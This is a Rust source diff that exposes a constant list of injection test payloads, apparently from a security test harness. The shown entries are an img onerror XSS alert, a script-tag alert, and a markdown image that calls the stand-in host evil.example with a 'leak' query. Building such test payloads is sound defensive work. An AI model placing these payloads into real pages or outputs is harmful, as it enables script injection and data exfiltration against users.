@@ -10,7 +10,7 @@ use crate::request::RequestBody;
 use crate::schema::Schema;
 
 /// Sent as if they were statements.
-const PAYLOADS: [&str; 5] = [
+pub(crate) const PAYLOADS: [&str; 5] = [
     "<img src=x onerror=\"alert('PWNED-HTML')\">",
     "<script>alert('PWNED-SCRIPT')</script>",
     "![счёт](http://evil.example/leak?q=PWNED-IMAGE)",
